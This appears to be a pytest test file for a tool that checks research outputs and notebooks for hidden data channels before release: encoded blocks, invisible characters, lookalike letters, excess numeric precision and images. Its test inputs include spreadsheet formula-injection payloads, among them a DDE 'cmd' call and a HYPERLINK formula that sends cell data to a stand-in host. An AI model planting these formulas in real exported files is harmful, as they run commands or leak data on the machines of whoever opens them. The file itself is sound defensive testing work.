"""Channels past the eye: what can carry data is told; ordinary names, texts and numbers pass."""

from __future__ import annotations

import base64
import gzip
import json
import random
from collections.abc import Callable
from pathlib import Path

import nbformat
import pytest
from nbformat import v4

from hdh_jupyter.disclosure import Report, check, check_and_sanitise
from hdh_jupyter.disclosure.rules.channels import judged as judge_block
from hdh_jupyter.disclosure.rules.formulas import significant

from . import pictures as made

Judge = Callable[[str, str | bytes], Report]
ROWS = "\n".join(f"P{i:05d};{i % 90};{i % 96}" for i in range(300)).encode()
CLEAN = "region,taux\nBretagne,1.5\nCorse,2.5\n"
PACKED = base64.b64encode(gzip.compress(ROWS)).decode()
NOISE = base64.b64encode(random.Random(1).randbytes(400)).decode()


def rules(report: Report) -> set[str]:
    return {f.rule for f in report.findings if f.rule.startswith(("channels.", "formulas.", "numbers."))}


@pytest.mark.parametrize(
    ("name", "rule"),
    [
        pytest.param("table_1.csv", None, id="00"),
        pytest.param("resultats_20240115_103000.csv", None, id="01"),
        pytest.param("export_20240115103000.csv", None, id="02"),
        pytest.param("AnalyseDeSurvieParAgeEtSexe2023V2.csv", None, id="03"),
        pytest.param("cip13_3400930000000.csv", None, id="04"),
        pytest.param("RESULTATS2024FINAL.csv", None, id="05"),
        pytest.param("patient_194826153702.csv", "channels.file_name", id="06"),
        pytest.param("fig_aGk3Zm9vYmF6MTIzNDU2Nzg5MGFi.csv", "channels.file_name", id="07"),
        pytest.param("d41d8cd98f00b204e9800998ecf8427e.csv", "channels.unknown", id="08"),
        pytest.param("t" * 180 + ".csv", "channels.unknown", id="09"),
    ],
)
def test_a_name_can_carry_data(name: str, rule: str | None, judged: Judge) -> None:
    report = judged(name, CLEAN)
    assert rules(report) == ({rule} if rule else set())
    assert report.files[0].releasable is (rule != "channels.file_name")


@pytest.mark.parametrize(
    ("name", "content", "rule"),
    [
        pytest.param("a.csv", f"region,note\nBretagne,{PACKED}\n", "channels.encoded", id="00"),
        pytest.param("a.csv", f"region,note\nBretagne,{ROWS.hex()}\n", "channels.encoded", id="01"),
        pytest.param("a.csv", f"region,note\nBretagne,{NOISE}\n", "channels.unknown", id="02"),
        pytest.param("a.md", f"# Titre\n\nTexte {base64.b64encode(ROWS).decode()}\n", "channels.encoded", id="03"),
        pytest.param("a.md", "# Titre\n\n" + "mot \t \t\n" * 20, "channels.spelling", id="04"),
        pytest.param("a.md", "# Titre\n\n" + "pаtient traité\n" * 20, "channels.spelling", id="05"),
        pytest.param("a.csv", "region,note\nBretagne,x" + "\u200b\u200c" * 12 + "\n", "channels.invisible", id="06"),
        pytest.param("a.csv", "region,taux\nBretagne,=cmd|'/C calc'!A0\n", "formulas.active", id="07"),
        pytest.param("a.csv", 'a,b\nx,"=HYPERLINK(""http://e.example/""&A1)"\n', "formulas.active", id="08"),
        pytest.param("a.csv", "a,b\nx,@WEBSERVICE(A1)\n", "formulas.active", id="09"),
        pytest.param(
            "a.csv",
            "dep,moyenne\n" + "".join(f"D{i},{i / 7 + 1 / 3!r}\n" for i in range(30)),
            "numbers.precision",
            id="10",
        ),
        pytest.param("a.csv", CLEAN, None, id="11"),
        pytest.param(
            "a.csv",
            "region,n,age_moyen\n"
            + "".join(f"Region {chr(65 + i)},{n},{60 + 1 / n!r}\n" for i, n in enumerate(range(30, 43))),
            "numbers.exact_sums",
            id="15",
        ),
        pytest.param(
            "a.csv",
            "region,n,age_moyen\n"
            + "".join(f"Region {chr(65 + i)},{n},{60 + 1 / n!r}\n" for i, n in enumerate(range(3001, 3014))),
            None,
            id="16",
        ),
        pytest.param("a.csv", "region,note\nBretagne,=SUM(A1)\nCorse,-12\n", None, id="12"),
        pytest.param("a.csv", "gene,sequence\nX," + "ACGT" * 90 + "\n", None, id="13"),
        pytest.param("a.md", "# Rôle de la TNFα et de l’IL-6\n\nβ-bloquants, χ2, Δt, µg\n", None, id="14"),
        pytest.param("a.md", "ligne avec espaces  \nautre ligne  \n" * 20, None, id="15"),
        pytest.param("a.csv", "dep,moyenne\n" + "".join(f"D{i},{i / 7:.3f}\n" for i in range(30)), None, id="16"),
    ],
)
def test_texts_and_cells_can_carry_data(name: str, content: str, rule: str | None, judged: Judge) -> None:
    assert rules(judged(name, content)) == ({rule} if rule else set())


@pytest.mark.parametrize(
    ("block", "verdict"),
    [
        (PACKED, "encoded"),
        (base64.b64encode(ROWS).decode(), "encoded"),
        (base64.urlsafe_b64encode(gzip.compress(ROWS)).decode(), "encoded"),
        (NOISE, "unknown"),
        ("A" * 300, None),
        ("0123456789" * 30, None),
    ],
)
def test_blocks_are_told_by_what_they_decode_to(block: str, verdict: str | None) -> None:
    assert judge_block(block) == verdict


@pytest.mark.parametrize(
    ("number", "digits"),
    [("0.3333333333333333", 16), ("0,0012", 2), ("12.50", 4), ("1234567890123456", 0), ("1.5e-10", 2), ("abc.d", 0)],
)
def test_significant_digits_are_counted(number: str, digits: int) -> None:
    assert significant(number) == digits


POINTS = {
    "type": "scatter",
    "mode": "markers",
    "x": [i * 37 % 89 for i in range(300)],
    "y": [i * 7919 % 1009 / 10 for i in range(300)],
}
FIGURE = {"data": [POINTS], "layout": {"xaxis": {"title": {"text": "age"}}}}
LATEX = r"\begin{tabular}{lr} Région & Patients \\ \hline Corse & 4 \\ Bretagne & 120 \end{tabular}"
PRINTED = made.document(made.table_lines([("Sexe", "Patients"), ("F", "1 204"), ("H", "7"), ("X", "88")]))


def book(*outputs: dict[str, object], **cell: object) -> bytes:
    made_outputs = [v4.new_output("display_data", data=data) for data in outputs]
    code = v4.new_code_cell("resultat", outputs=made_outputs)
    note = v4.new_markdown_cell("# Titre", **cell)
    return nbformat.writes(v4.new_notebook(cells=[code, note])).encode()


@pytest.mark.parametrize(
    ("content", "rule"),
    [
        pytest.param(book({"application/vnd.plotly.v1+json": FIGURE}), "figures.individuals", id="00"),
        pytest.param(
            book({"text/html": f"<script>Plotly.newPlot('x', {json.dumps(FIGURE)})</script>", "text/plain": "x"}),
            "figures.individuals",
            id="01",
        ),
        pytest.param(
            book({"image/jpeg": base64.b64encode(made.as_jpeg(made.chart()) + ROWS).decode()}),
            "hidden.content",
            id="02",
        ),
        pytest.param(
            book({"image/png": base64.b64encode(made.as_png(made.scatter(400))).decode()}), "figures.points", id="03"
        ),
        pytest.param(
            book({"text/latex": LATEX}),
            "counts.small_cell",
            id="04",
        ),
        pytest.param(
            book(attachments={"t.csv": {"text/csv": base64.b64encode(b"region,patients\nA,4\nB,120\n").decode()}}),
            "counts.small_cell",
            id="05",
        ),
        pytest.param(
            book({"application/pdf": base64.b64encode(made.as_bytes(PRINTED)).decode()}),
            "counts.small_cell",
            id="06",
        ),
        pytest.param(book({"application/x-thing": "z" * 5000}), "hidden.content", id="07"),
    ],
)
def test_every_part_of_a_notebook_is_read_by_the_reader_of_its_kind(content: bytes, rule: str, judged: Judge) -> None:
    assert rule in {f.rule for f in judged("n.ipynb", content).findings}


def test_a_notebook_leaves_the_same_each_time_and_passes(tmp_path: Path) -> None:
    picture = {"image/jpeg": base64.b64encode(made.as_jpeg(made.chart())).decode(), "text/plain": "<Figure>"}
    bars = {"data": [{"type": "bar", "x": ["a", "b"], "y": [120, 340]}], "layout": {}}
    content = book(picture, {"application/vnd.plotly.v1+json": bars, "text/plain": "Figure"}, {"text/latex": "$x$"})
    forms = []
    for index in range(2):
        path = tmp_path / "n.ipynb"
        path.write_bytes(content)
        (tmp_path / str(index)).mkdir()
        assert check_and_sanitise([path], tmp_path / str(index)).verdict == "pass"
        forms.append((tmp_path / str(index) / "0").read_bytes())
    assert forms[0] == forms[1]
    clean = tmp_path / "clean.ipynb"
    clean.write_bytes(forms[0])
    assert check([clean]).verdict == "pass"
    assert b"plotly" not in forms[0]
    assert [c["id"] for c in json.loads(forms[0])["cells"]] == ["cell-1", "cell-2"]
